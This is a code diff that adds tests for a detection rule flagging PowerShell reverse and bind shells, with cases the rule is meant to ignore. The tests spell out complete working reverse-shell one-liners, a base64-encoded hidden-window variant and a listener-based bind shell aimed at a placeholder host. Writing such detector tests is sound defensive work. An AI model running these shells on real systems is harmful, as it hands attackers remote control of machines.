@@ -104,3 +104,27 @@ describe('MLS-RAY-015 through the shipped rules', () => {
     ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-RAY-015');
   });
 });
+
+describe('PowerShell reverse and bind shells', () => {
+  const TCP_ONE_LINER = `$client = New-Object System.Net.Sockets.TCPClient("${H}",4242);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + "PS " + (pwd).Path + "> ";$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()`;
+
+  it('reads the TCPClient command loop, spelled or encoded, a listener, a ScriptBlock and a redirected shell', () => {
+    expect(io(['pwsh', '-nop', '-c', TCP_ONE_LINER])).toEqual(['shell powershell']);
+    expect(io(['powershell', '-NoP', '-NonI', '-W', 'Hidden', '-Exec', 'Bypass', '-EncodedCommand', Buffer.from(TCP_ONE_LINER, 'utf16le').toString('base64')])).toEqual(['shell powershell']);
+    expect(io(['pwsh', '-c', '$l = [System.Net.Sockets.TcpListener]4444; $l.Start(); $c = $l.AcceptTcpClient(); $r = New-Object IO.StreamReader($c.GetStream()); $w = New-Object IO.StreamWriter($c.GetStream()); while ($true) { $cmd = $r.ReadLine(); $w.WriteLine((Invoke-Expression $cmd | Out-String)); $w.Flush() }'])).toEqual(['shell powershell']);
+    expect(io(['pwsh', '-c', `$c = [Net.Sockets.TcpClient]::new("${H}", 443); $r = [IO.StreamReader]::new($c.GetStream()); while ($l = $r.ReadLine()) { & ([ScriptBlock]::Create($l)) }`])).toEqual(['shell powershell']);
+    expect(io(['pwsh', '-c', `$c = New-Object Net.Sockets.TCPClient('${H}', 443); $s = $c.GetStream(); $p = New-Object System.Diagnostics.Process; $p.StartInfo.FileName = '/bin/sh'; $p.StartInfo.RedirectStandardInput = $true; $p.StartInfo.RedirectStandardOutput = $true; $p.StartInfo.UseShellExecute = $false; $p.Start(); $s.CopyToAsync($p.StandardInput.BaseStream); $p.StandardOutput.BaseStream.CopyTo($s)`])).toEqual(['shell sh']);
+  });
+
+  it('leaves a TCP health check, a download run as code, and spelled text run beside a socket', () => {
+    expect(io(['pwsh', '-c', '$c = New-Object Net.Sockets.TcpClient; $c.Connect("db", 5432); if ($c.Connected) { "up" }; $c.Close()'])).toEqual([]);
+    expect(io(['pwsh', '-c', 'iex (irm https://get.example.org/install.ps1)'])).toEqual([]);
+    expect(io(['pwsh', '-c', `$c = New-Object Net.Sockets.TcpClient("${H}", 80); $s = $c.GetStream(); $n = $s.Read($b, 0, 10); iex 'Get-Date'`])).toEqual([]);
+    expect(io(['pwsh', '-c', '$r = New-Object IO.StreamReader("/app/cmds.txt"); while ($l = $r.ReadLine()) { iex $l }'])).toEqual([]);
+  });
+
+  it('alerts through MLS-RAY-015', () => {
+    expect(execRuleIds(['pwsh', '-nop', '-c', TCP_ONE_LINER])).toContain('MLS-RAY-015');
+    expect(execRuleIds(['pwsh', '-nop', '-c', TCP_ONE_LINER], SA)).toContain('MLS-RAY-015');
+  });
+});
